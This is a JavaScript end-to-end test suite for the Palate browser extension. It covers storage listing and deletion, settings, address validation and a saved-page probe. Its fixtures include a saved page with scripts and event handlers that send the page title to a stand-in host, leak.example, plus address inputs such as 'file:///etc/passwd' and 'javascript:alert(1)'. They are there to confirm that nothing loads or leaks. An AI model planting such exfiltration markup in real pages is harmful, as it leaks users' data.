// The small pages of the extension: what is kept, settings, the probe, loaded from the package. They are told in
// Chromium, and what is kept in Firefox too, which keeps it otherwise. The popup is told in extension-popup.mjs.
import { readFile, rm, writeFile } from "node:fs/promises";
import { findings } from "./axe.mjs";
import { folder, root, scenario, until } from "./harness.mjs";
import { installed } from "./installed.mjs";
import { recordsHere, verified } from "./oracle.mjs";
import { startSites } from "./sites.mjs";

const extension = `${root}/bin/extension/chrome`;

// at opens the extension, and gives what opens a page of it by its name.
const begin = async (startBrowser) => {
  const browser = await startBrowser({ extension, acceptDownloads: true });
  const worker = browser.context.serviceWorkers()[0] ?? (await browser.context.waitForEvent("serviceworker"));
  const open = async (name) => {
    const page = await browser.open(new URL(name, worker.url()).href);
    await page.waitForLoadState("load");
    return page;
  };
  return { browser, open };
};

// seed is what a person had done: comparisons, a site with a repair, switches, and things that Palate does not know.
const seed = (page) =>
  page.evaluate(async () => {
    const [{ asker }, journal, settings] = await Promise.all([import("./asker.js"), import("./journal.js"), import("./settings.js")]);
    const ask = asker(() => chrome.runtime.connect());
    const entry = (n) => ({
      id: journal.newID(), showing: journal.newID(), gesture: "pair", strength: 2, level: "", prompt: `What is thing ${n}?`,
      answers: [`It is ${n}.`, "Great question! There is a lot to say about it."], lang: "en", origin: "chatgpt", seed: 3, since: 1_800_000_000_000, first: 1_800_000_001_000, at: 1_800_000_002_000,
    });
    for (let n = 0; n < 3; n++) await ask({ op: "append", entry: entry(n) });
    await settings.setSite("https://chatgpt.com", { on: true, chatsOff: ["abc"], repair: { assistant: [{ css: "[data-x]" }] } });
    await settings.setSite("https://claude.ai", { on: false });
    await settings.setOrganic("copy", true);
    await chrome.storage.local.set({ "ünknown": { a: [1, 2, 3], text: "häßlich 😀" } });
    localStorage.setItem("palate-look", "{}");
    localStorage.setItem("strange", "x");
    await (await caches.open("somebody's")).put("https://x.example/", new Response("x"));
    const made = indexedDB.open("stranger", 1);
    made.onupgradeneeded = () => made.result.createObjectStore("things").put("a value", "a key");
    await new Promise((resolve) => (made.onsuccess = resolve));
    made.result.close();
  });

const read = (page) => page.waitForFunction(() => document.querySelectorAll("#groups details").length > 0);

// listed are the items of the page, read from what a person sees.
const listed = async (page) => {
  await page.evaluate(() => document.querySelectorAll("#groups details").forEach((group) => (group.open = true)));
  return page.evaluate(() =>
    [...document.querySelectorAll("#groups .item")].map((row) => ({
      group: row.closest("details").id.slice("group-".length), text: row.querySelector(".item-text").innerText, erasable: row.querySelector("button") !== null,
    })),
  );
};

// pressing presses the button with a label, on a surface.
const pressing = (page) => async (label) => {
  await page.until((label) => {
    document.querySelectorAll("#groups details").forEach((group) => (group.open = true));
    const found = [...document.querySelectorAll("button")].find((one) => (one.getAttribute("aria-label") ?? one.textContent) === label && !one.disabled);
    document.querySelectorAll("[data-pressed]").forEach((one) => one.removeAttribute("data-pressed"));
    found?.setAttribute("data-pressed", "");
    found?.scrollIntoView({ block: "center" }); // the line that says what was done may lie over what is at the end
    return Boolean(found);
  }, label);
  await page.click("[data-pressed]");
};

// dropping deletes the item of a row by its two presses.
const dropping = (page) => async (what) => {
  const press = pressing(page);
  await press(`Delete: ${what}`);
  await press(`Delete for good? ${what}`);
  await page.until((what) => {
    const isGone = ![...document.querySelectorAll("button")].some((one) => one.getAttribute("aria-label")?.endsWith(what));
    return isGone && document.getElementById("status").textContent.startsWith("Deleted");
  }, what);
};

const groupOf = (list, group) => list.filter((item) => item.group === group);

await scenario("every stored item is listed, those that Palate does not know too", async ({ startBrowser, check }) => {
  const { open } = await begin(startBrowser);
  const page = await open("privacy.html");
  await seed(page);
  await page.reload();
  await read(page);
  const list = await listed(page);
  const records = (await page.evaluate(recordsHere)).map((line) => JSON.parse(line));
  check.equal(groupOf(list, "answers").length, records.filter(({ kind }) => kind).length, "events");
  check.equal(groupOf(list, "texts").length, records.filter(({ text }) => text).length, "texts");
  check.ok(groupOf(list, "texts").every(({ text }) => text.includes("2027")), "a text has the date of the event that names it");
  check.deepEqual(groupOf(list, "sites").map(({ text }) => text.split("\n").slice(0, 2).join(" ")).sort(), ["Repair https://chatgpt.com", "Site and its switches https://chatgpt.com", "Site and its switches https://claude.ai"]);
  check.deepEqual(groupOf(list, "other").map(({ text }) => text.split("\n").slice(0, 2).join(" ")).sort(), ["Cache somebody's", "Database stranger", "Setting strange", "Setting ünknown"]);
  check.ok(list.filter(({ group }) => group !== "log").every(({ erasable }) => erasable), "something cannot be deleted");
  check.match(await page.textContent("#reads"), /chatgpt\.com/);
  check.doesNotMatch(await page.textContent("#reads"), /claude/);

  // The sums are those of the browser and of the records.
  const sums = await page.evaluate(async () => {
    const [{ kept }, settings] = await Promise.all([import("./kept.js"), import("./settings.js")]);
    const items = await kept(undefined, settings);
    const bytes = (of) => items.filter(of).reduce((sum, item) => sum + item.bytes, 0);
    const stored = ["site", "repair", "switches", "stored"];
    return {
      local: bytes((item) => stored.includes(item.kind) && item.name !== "strange"), localWanted: await chrome.storage.local.getBytesInUse(null),
      all: bytes(() => true), items: items.length, onDisk: (await navigator.storage.estimate()).usage,
    };
  });
  check.equal(sums.local, sums.localWanted, "bytes of chrome.storage.local");
  check.equal(sums.items, list.length);
  check.ok(sums.all < sums.onDisk, `${sums.all} bytes are listed, ${sums.onDisk} are on disk`);
  check.ok((await page.textContent("#total")).startsWith(`${sums.items} items, ${(sums.all / 1000).toFixed(1)} kB`), await page.textContent("#total"));
});

await scenario("an answer and a text are deleted by the keyboard alone, with what hangs on them, and the log holds", async ({ startBrowser, check }) => {
  const { open } = await begin(startBrowser);
  const page = await open("privacy.html");
  await seed(page);
  await page.reload();
  await read(page);
  const press = async (...keys) => {
    for (const key of keys) await page.keyboard.press(key);
  };
  const focused = () => page.evaluate(() => document.activeElement.getAttribute("aria-label") ?? document.activeElement.innerText);
  const tabTo = async (what) => {
    for (let n = 0; !what.test(await focused()); n++) {
      check.ok(n < 200, `no Tab leads to ${what}`);
      await press("Tab");
    }
  };
  const said = (what) => page.waitForFunction((what) => document.getElementById("status").textContent.includes(what), what);

  await tabTo(/^Your answers and rules/);
  await press("Enter");
  await tabTo(/^Delete: Comparison What is thing 1\?/);
  await press("Enter");
  check.match(await focused(), /^Delete for good\? Comparison/);
  await press("Escape");
  check.match(await focused(), /^Delete: Comparison/);
  check.equal((await listed(page)).length, (await listed(page)).length);
  await press("Enter", "Enter");
  await said("Deleted");
  check.match(await focused(), /^Delete: /); // the keyboard is not lost

  const lines = await page.evaluate(recordsHere);
  check.doesNotMatch(lines.join("\n"), /thing 1|It is 1/);
  check.match(lines.join("\n"), /Great question/); // other answers name it
  await tabTo(/^Delete: Text Great question/);
  await press("Enter", "Enter");
  await page.waitForFunction(() => !document.getElementById("group-texts"));
  const left = await page.evaluate(recordsHere);
  check.doesNotMatch(left.join("\n"), /thing|It is|Great question/);
  const dir = await folder();
  try {
    check.match(await verified(left, dir), /0 texts|no texts|whole|ok/i);
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});

await scenario("other items go one by one", async ({ startBrowser, check }) => {
  const { open } = await begin(startBrowser);
  const page = await open("privacy.html");
  await seed(page);
  await page.reload();
  await read(page);
  const drop = async (label) => {
    await page.evaluate(() => document.querySelectorAll("#groups details").forEach((group) => (group.open = true)));
    const button = page.getByRole("button", { name: label, exact: true });
    await button.click();
    const sure = page.getByRole("button", { name: label.replace("Delete: ", "Delete for good? "), exact: true });
    await sure.click();
    await sure.waitFor({ state: "detached" });
    await button.waitFor({ state: "detached" });
  };
  await drop("Delete: Repair https://chatgpt.com");
  check.deepEqual((await page.evaluate(() => chrome.storage.local.get("sites"))).sites["https://chatgpt.com"].repair, null);
  await drop("Delete: Site and its switches https://chatgpt.com");
  for (const name of ["Setting ünknown", "Setting strange", "Database stranger", "Cache somebody's", "What Palate may learn from", "Theme and sizes"]) await drop(`Delete: ${name}`);
  check.deepEqual(Object.keys(await page.evaluate(() => chrome.storage.local.get())), ["sites"]);
  check.deepEqual(await page.evaluate(async () => [(await caches.keys()).length, (await indexedDB.databases()).length, localStorage.length]), [0, 0, 0]);
  check.equal(groupOf(await listed(page), "other").length, 0);
});

await scenario("a row that waits for a second press keeps it, and the focus, while the list is drawn anew", async ({ startBrowser, check }) => {
  const { open } = await begin(startBrowser);
  const page = await open("privacy.html");
  await seed(page);
  await page.reload();
  await read(page);
  await page.evaluate(() => ["sites", "other"].forEach((name) => (document.getElementById(`group-${name}`).open = true)));
  const button = (label) => page.getByRole("button", { name: label, exact: true });
  const counted = (group, n) => page.waitForFunction(([group, n]) => document.querySelector(`#group-${group} summary`).textContent.includes(`${n} items`), [group, n]);
  const switchOn = (site) => page.evaluate(async (site) => (await import("./settings.js")).setSite(site, { on: false }), site);
  const isHeld = (label) => button(label).evaluate((one) => one === document.activeElement && one.matches("[data-sure]"));

  // The list is drawn between the press and the release of the mouse.
  await button("Delete: Setting strange").hover();
  const top = () => button("Delete: Setting strange").evaluate((one) => Math.round(one.getBoundingClientRect().top));
  const before = await top();
  await page.mouse.down();
  await switchOn("https://gemini.google.com");
  await counted("sites", 4);
  check.equal(await top(), before, "the list moved under the pointer");
  await page.mouse.up();
  check.ok(await isHeld("Delete for good? Setting strange"));

  // One that another page changes waits, and comes once the press is taken back.
  await switchOn("https://one.example");
  await page.keyboard.press("Escape");
  await counted("sites", 5);
  check.equal(await page.evaluate(() => document.activeElement.getAttribute("aria-label")), "Delete: Setting strange");

  // Something else goes meanwhile: it takes until it is let go.
  await page.evaluate(() => {
    const real = caches.delete.bind(caches);
    const leave = new Promise((resolve) => (window.letGo = resolve));
    caches.delete = (name) => leave.then(() => real(name));
  });
  await button("Delete: Cache somebody's").click();
  await button("Delete for good? Cache somebody's").click();
  await button("Delete: Setting strange").click();
  await switchOn("https://two.example");
  await page.evaluate(() => window.letGo());
  await button("Delete for good? Cache somebody's").waitFor({ state: "detached" });
  await page.waitForFunction(() => document.getElementById("status").textContent.startsWith("Deleted"));
  check.ok(await isHeld("Delete for good? Setting strange"));
  await page.keyboard.press("Enter");
  await button("Delete for good? Setting strange").waitFor({ state: "detached" });
  await button("Delete: Setting strange").waitFor({ state: "detached" });
  check.equal(await page.evaluate(() => localStorage.getItem("strange")), null);
  check.match(await page.evaluate(() => document.activeElement.getAttribute("aria-label")), /^Delete: (Setting ünknown|Database stranger)/);

  // What changed into something else meanwhile is not what was meant.
  await button("Delete: Setting ünknown").click();
  await page.evaluate(() => chrome.storage.local.remove("ünknown"));
  await page.keyboard.press("Enter");
  await button("Delete for good? Setting ünknown").waitFor({ state: "detached" });
});

await scenario("what the keyboard reaches is never under the line that says what was done", async ({ startBrowser, check }) => {
  const { open } = await begin(startBrowser);
  const page = await open("privacy.html");
  await page.setViewportSize({ width: 360, height: 400 });
  await seed(page);
  await page.reload();
  await read(page);
  await page.click("#export");
  await page.waitForFunction(() => document.getElementById("status").textContent.startsWith("Exported"));
  await listed(page);
  await page.focus("#groups summary");
  const covered = await page.evaluate(() => ({ count: document.querySelectorAll("#groups button:not([hidden])").length, at: [] }));
  for (let i = 0; i < covered.count; i++) {
    await page.keyboard.press("Tab");
    const what = await page.evaluate(() => {
      const focused = document.activeElement;
      const { bottom } = focused.getBoundingClientRect();
      return bottom > document.getElementById("status").getBoundingClientRect().top && !document.getElementById("status").contains(focused) ? focused.getAttribute("aria-label") ?? focused.textContent : "";
    });
    if (what) covered.at.push(what);
  }
  check.ok(covered.count > 10, "there is little to reach");
  check.deepEqual(covered.at, []);
});

await scenario("the log is exported as the app exports it", async ({ startBrowser, check }) => {
  const { open } = await begin(startBrowser);
  const page = await open("privacy.html");
  await seed(page);
  const download = async (page, click) => {
    const [file] = await Promise.all([page.waitForEvent("download"), click()]);
    check.equal(file.suggestedFilename(), "palate.jsonl");
    return readFile(await file.path(), "utf8");
  };
  const ours = await download(page, () => page.click("#export"));
  const app = await open("panel.html?mode=panel#/data");
  const log = app.getByRole("button", { name: "The log", exact: true });
  await log.waitFor();
  check.equal(ours, await download(app, () => log.click()));
  check.match(ours, /thing 2/);
});

await scenario("all is deleted once the word is typed, and not before", async ({ startBrowser, check }) => {
  const { open } = await begin(startBrowser);
  const page = await open("privacy.html");
  await seed(page);
  await page.reload();
  await read(page);
  check.equal(await page.isDisabled("#delete"), true);
  await page.fill("#word", "delet");
  await page.keyboard.press("Enter");
  check.equal(await page.isDisabled("#delete"), true);
  check.ok((await page.evaluate(recordsHere)).length > 0);
  await page.fill("#word", " Delete");
  await page.keyboard.press("Enter");
  await page.waitForFunction(() => document.getElementById("status").textContent.startsWith("Everything was deleted"));
  const left = await page.evaluate(async () => ({
    stored: Object.keys(await chrome.storage.local.get()), look: localStorage.length, caches: (await caches.keys()).length,
    databases: (await indexedDB.databases()).map(({ name }) => name), origins: (await chrome.permissions.getAll()).origins,
  }));
  check.deepEqual(left, { stored: [], look: 0, caches: 0, databases: [], origins: [] });
  check.doesNotMatch((await page.evaluate(recordsHere)).join("\n"), /thing|Great question/);
  check.match(await page.textContent("#reads"), /reads no site/);
});

await scenario("the token and the address of a host are deleted, and its permission goes back", async ({ startHost, lend, check }) => {
  const sites = await lend(startSites)();
  const browser = await lend(installed)("chromium", sites);
  const panel = await browser.page("panel.html?mode=panel#/devices");
  const isReady = () => !window.before && document.documentElement.dataset.palate === "ready";
  await panel.until(isReady);
  const host = await startHost({ args: ["--extension", await panel.evaluate(() => location.origin)] });
  const address = host.url.replace(/\/$/, "");
  const inPanel = pressing(panel);
  await panel.until((address) => {
    const field = document.querySelector("#host-address");
    if (!field) return false;
    window.before = true;
    field.value = address;
    return field.dispatchEvent(new InputEvent("input", { bubbles: true }));
  }, host.url);
  await inPanel("Use this host");
  await panel.until(isReady);
  await inPanel("Connect this browser");
  await panel.until(() => document.querySelector(".sync")?.textContent === "Synced");

  const page = await browser.page("privacy.html");
  const text = (id) => page.evaluate((id) => document.getElementById(id).textContent, id);
  await page.until((address) => document.querySelector("#where").textContent.includes(address), address);
  const drop = dropping(page);
  const origins = () => page.evaluate(async () => (await chrome.permissions.getAll()).origins);
  check.deepEqual(await origins(), [`${new URL(address).protocol}//${new URL(address).hostname}/*`]);
  await drop("Token for your host");
  check.match(await text("where"), /^Your answers, texts and rules are synced/); // the address is there yet
  await drop(`Address of your host ${address}`);
  await page.until(() => document.querySelector("#where").textContent.startsWith("Everything stays in this browser"));
  check.deepEqual(await origins(), []);
  check.deepEqual(await page.evaluate(() => chrome.storage.local.get("host")), {});
  const kinds = await page.evaluate(async () => (await (await import("./kept.js")).kept(undefined, await import("./settings.js"))).map(({ kind }) => kind));
  check.deepEqual(kinds.filter((kind) => kind === "host" || kind === "token"), []);
});

await scenario("settings: what is learned from is off but for two, and is switched by the keyboard", async ({ startBrowser, check }) => {
  const { open } = await begin(startBrowser);
  const page = await open("options.html");
  await page.waitForSelector("#learn-dwell");
  const on = () => page.evaluate(() => [...document.querySelectorAll("#learn input")].filter(({ checked }) => checked).map(({ id }) => id));
  check.deepEqual(await on(), ["learn-native_ab", "learn-edit"]);
  check.equal(await page.evaluate(() => [...document.querySelectorAll("#learn input")].every((box) => document.getElementById(box.getAttribute("aria-describedby")).textContent.length > 20)), true);
  await page.focus("#learn-edit");
  await page.keyboard.press("Tab");
  await page.keyboard.press("Space");
  const stored = (source, on) => until(() => page.evaluate(async ([source, on]) => (await chrome.storage.local.get("organic")).organic?.[source] === on, [source, on]));
  await stored("sibling", true);
  check.equal(await page.evaluate(() => document.activeElement.id), "learn-sibling");
  await page.keyboard.press("Shift+Tab");
  await page.keyboard.press("Space");
  await stored("edit", false);
  await page.reload();
  await page.waitForSelector("#learn-dwell");
  check.deepEqual(await on(), ["learn-native_ab", "learn-sibling"]);
});

await scenario("settings: a site that the browser does not let Palate read is shown as off, and is forgotten", async ({ startBrowser, check }) => {
  const { open } = await begin(startBrowser);
  const page = await open("options.html");
  await seed(page);
  const box = page.getByRole("switch", { name: "Read chatgpt.com" });
  await box.waitFor();
  check.equal(await box.isChecked(), false); // nobody was asked
  await page.getByRole("button", { name: "Remove chatgpt.com" }).click();
  await box.waitFor({ state: "detached" });
  check.deepEqual(Object.keys((await page.evaluate(() => chrome.storage.local.get("sites"))).sites), ["https://claude.ai"]);
});

await scenario("firefox: every stored item is listed, goes one by one, and all at once", async ({ lend, check }) => {
  const sites = await lend(startSites)();
  const browser = await lend(installed)("firefox", sites);
  const page = await browser.page("privacy.html");
  const open = async () => {
    await page.evaluate(() => {
      window.before = true;
      location.reload();
    });
    await page.until(() => !window.before && document.querySelectorAll("#groups details").length > 0);
  };
  await seed(page);
  await open();
  const list = await listed(page);
  const records = (await page.evaluate(recordsHere)).map((line) => JSON.parse(line));
  check.equal(groupOf(list, "answers").length, records.filter(({ kind }) => kind).length);
  check.equal(groupOf(list, "texts").length, records.filter(({ text }) => text).length);
  check.equal(groupOf(list, "other").length, 4);
  check.match(await page.evaluate(() => document.querySelector("#total").textContent), new RegExp(`^${list.length} items, `));

  await dropping(page)("Comparison What is thing 1?");
  check.doesNotMatch((await page.evaluate(recordsHere)).join("\n"), /thing 1/);

  await page.evaluate(() => {
    document.querySelector("#word").value = "delete";
    document.querySelector("#word").dispatchEvent(new InputEvent("input"));
  });
  await page.click("#delete");
  await page.until(() => document.querySelector("#status").textContent.startsWith("Everything was deleted"));
  const left = await page.evaluate(async () => ({ stored: await chrome.storage.local.get(), look: localStorage.length, caches: (await caches.keys()).length }));
  check.deepEqual(left, { stored: {}, look: 0, caches: 0 });
  check.doesNotMatch((await page.evaluate(recordsHere)).join("\n"), /thing/);
  check.deepEqual((await browser.complaints()).filter((one) => !one.startsWith("Promise resolved after context unloaded")), []);
  check.deepEqual(sites.by("extension"), []);
});

const addresses = {
  "https://chat.example.org": "https://chat.example.org", "chat.example.org": "https://chat.example.org", " HTTPS://Chat.Example.org/c/1?x#y ": "https://chat.example.org",
  "chat.example.org:8443/c": "https://chat.example.org:8443", "http://localhost:3000": "http://localhost:3000", "localhost:3000": "http://localhost:3000", "localhost": "http://localhost",
  "127.0.0.1:8080/": "http://127.0.0.1:8080", "https://localhost:8443": "https://localhost:8443", "https://intranet": "https://intranet", "https://bücher.example": "https://xn--bcher-kva.example",
  "": "Empty", "  ": "Empty", "https://*/*": "Wildcard", "*://chat.example/*": "Wildcard", "https://*.example.org": "Wildcard", "hello": "Malformed", "hello world": "Malformed", "https://": "Malformed",
  "https://a b": "Malformed", "http://chat.example.org": "Scheme", "http://10.0.0.7:3000": "Scheme", "http://localhost.example.org": "Scheme", "http://[::1]:3000": "Scheme", "file:///etc/passwd": "Scheme",
  "about:blank": "Scheme", "javascript:alert(1)": "Scheme", "chrome://extensions": "Scheme", "data:text/html,x": "Scheme", "ftp://chat.example": "Scheme", "https://me:secret@chat.example": "User",
  "https://chatgpt.com@evil.example": "User",
};

await scenario("an address that is typed is one origin, or is refused in words", async ({ startBrowser, check }) => {
  const { open } = await begin(startBrowser);
  const page = await open("options.html");
  const got = await page.evaluate(async (typed) => {
    const { addressOf } = await import("./address.js");
    return Object.fromEntries(typed.map((one) => [one, addressOf(one).origin ?? addressOf(one).problem]));
  }, Object.keys(addresses));
  check.deepEqual(got, addresses);
  await page.fill("#address", "https://*/*");
  await page.keyboard.press("Enter");
  check.match(await page.textContent("#address-problem"), /one address at a time/);
  check.equal(await page.evaluate(() => document.activeElement.id), "address");
});

const canary = "Zebrafinch";

await scenario("a health report has no word of the page, whatever a page makes a snapshot say", async ({ startBrowser, check }) => {
  const { open } = await begin(startBrowser);
  const page = await open("options.html");
  const report = await page.evaluate(async (canary) => {
    const { reportOf } = await import("./snapshot.js");
    const turn = (role, given) => ({ key: canary, role, confidence: "high", text: canary, fidelity: "markdown", complete: "whole", model: canary, rule: 0, ...given });
    const snapshot = {
      v: 1, origin: `https://${canary}.example`, site: "chatgpt", pack: { version: "2026.10.1", verified: "2026-10-03" }, host: canary, state: "reading", thread: canary, lang: canary,
      badge: { seen: 3, declared: 22, contiguous: false }, turns: [turn("user"), turn("assistant", { confidence: "low" }), turn(`<b>${canary} said`, { fidelity: `${canary} x`, complete: [canary, canary] })],
      groups: [{ prompt: canary, kind: "versions", answers: [canary] }, { kind: { [canary]: 1 } }], health: { turn: "3/3", role: "2/3", content: `${canary}/3`, [`${canary} ${canary}`]: "1/1" }, repaired: false,
    };
    return reportOf(snapshot, "1.0");
  }, canary);
  check.equal(report, [
    "Palate 1.0, chatgpt 2026.10.1, 2026-10-03", "state reading", "turns 3 of 22, with gaps", "turn 3/3", "role 2/3", "content ?", "? 1/1",
    "roles: user 1, assistant (unsure) 1, ? 1", "complete: whole 2, ? 1", "text: markdown 2, ? 1", "groups: versions 1, ? 1", "",
  ].join("\n"));
});

// savedPage is a page as a browser saves it, with everything in it that could load or run something.
const savedPage = (turns) => `<!DOCTYPE html>
<!-- saved from url=(0035)https://chatgpt.com/c/0123abcd-4567 -->
<html lang="en"><head><title>${canary}</title><script>fetch("https://leak.example/" + document.title)</script><link rel="stylesheet" href="https://leak.example/a.css"></head>
<body onload="fetch('https://leak.example/load')"><main>${turns.join("")}</main><img src="https://leak.example/a.png" onerror="fetch('https://leak.example/error')">
<iframe src="https://leak.example/frame"></iframe><svg onload="alert(1)"><image href="https://leak.example/b.png"/></svg></body></html>`;

const turn = (n, role, text) =>
  `<article data-testid="conversation-turn-${n}" data-turn-id="turn-${n}" data-turn="${role}"><div data-message-author-role="${role}" data-message-id="m${n}">` +
  `${role === "user" ? `<div class="whitespace-pre-wrap">${text}</div>` : `<div class="markdown"><p>${text}</p></div><button data-testid="copy-turn-action-button">Copy</button>`}</div></article>`;

await scenario("the probe runs a pack on a saved page: it counts, shows no word of it, and loads nothing", async ({ startBrowser, check }) => {
  const { browser, open } = await begin(startBrowser);
  const page = await open("probe.html");
  const asked = [];
  browser.context.on("request", (request) => asked.push(request.url()));
  const dir = await folder();
  try {
    await page.click("button[type=submit]");
    check.match(await page.textContent("#problem"), /saved page first/);
    await writeFile(`${dir}/page.html`, savedPage([turn(1, "user", `${canary}?`), turn(2, "assistant", `${canary}.`), turn(3, "user", `More ${canary}`), turn(4, "assistant", `No ${canary}`)]));
    await page.setInputFiles("#page", `${dir}/page.html`);
    await page.selectOption("#pack", "chatgpt");
    await page.click("button[type=submit]");
    await page.waitForFunction(() => document.querySelectorAll("#results details").length === 1);
    check.equal(await page.textContent("#results details > p"), "4 turns: 2 by the person, 2 by the model, 0 unsure");
    check.equal(await page.textContent("#problem"), "");
    const rows = await page.evaluate(() => Object.fromEntries([...document.querySelectorAll("#results tbody tr")].map((row) => [row.cells[0].textContent, row.cells[1].textContent])));
    check.equal(rows["turn (sum)"], "4/4");
    check.equal(rows["role (sum)"], "4/4");
    check.match(rows["content.user"], /^2\b/);
    const html = await page.evaluate(() => document.documentElement.outerHTML);
    check.ok(!html.includes(canary), "a word of the page is shown");

    // Every pack on the same page; that of its site finds most.
    await page.selectOption("#pack", "");
    await page.click("button[type=submit]");
    await page.waitForFunction(() => document.querySelectorAll("#results details").length > 3);
    check.match(await page.textContent("#results details"), /ChatGPT/);

    // A pack from a file, and what is none.
    await writeFile(`${dir}/own.json`, JSON.stringify({ pack: 1, id: "own", version: "1", verified: "2020-01-01", match: [], turn: [{ css: "[data-turn]" }], role: { signals: [{ attr: "data-turn" }] }, content: { user: [{ css: "div" }], assistant: [{ css: "div" }] } }));
    await page.setInputFiles("#pack-file", `${dir}/own.json`);
    await page.click("button[type=submit]");
    await page.waitForFunction(() => document.querySelectorAll("#results details").length === 1);
    check.match(await page.textContent("#results summary"), /own.*may be out of date/);
    await writeFile(`${dir}/bad.json`, JSON.stringify({ pack: 1, id: "bad", url: "https://leak.example/more.js" }));
    await page.setInputFiles("#pack-file", `${dir}/bad.json`);
    await page.waitForFunction(() => /bad\.json is no pack of rules: url/.test(document.getElementById("problem").textContent));
    check.deepEqual(asked.filter((url) => !url.startsWith("chrome-extension://")), [], "something was asked of the network");
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});

const looks = [{ colorScheme: "light", forcedColors: "none" }, { colorScheme: "dark", forcedColors: "none" }, { colorScheme: "light", forcedColors: "active" }];

await scenario("the pages hold to the rules for everybody, in every width and colour, and nothing runs over their edge", async ({ startBrowser, check }) => {
  const { open } = await begin(startBrowser);
  await seed(await open("privacy.html"));
  for (const name of ["privacy.html", "options.html", "probe.html", "popup.html"]) {
    const page = await open(name);
    if (name === "privacy.html") {
      await read(page);
      await listed(page);
    }
    if (name === "popup.html") await page.evaluate(() => (document.getElementById("other").open = true));
    for (const look of looks) {
      for (const width of [252, 360, 800]) {
        await page.emulateMedia(look);
        await page.setViewportSize({ width, height: 700 });
        const { wrong, undecided } = await findings(page);
        const where = `${name} at ${width} px, ${look.colorScheme} ${look.forcedColors}`;
        check.deepEqual(wrong, [], where);
        check.deepEqual(undecided, [], where);
        check.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), `${where} runs over its edge`);
        const small = await page.evaluate(() =>
          [...document.querySelectorAll("button, input, select, summary, nav a, .links a")].filter((e) => e.checkVisibility()).map((e) => [e.outerHTML.slice(0, 80), e.getBoundingClientRect()])
            .filter(([, { width, height }]) => width < 20 || height < 20).map(([html]) => html));
        check.deepEqual(small, [], `${where}: too small to hit`);
      }
    }
    await page.close();
  }
});
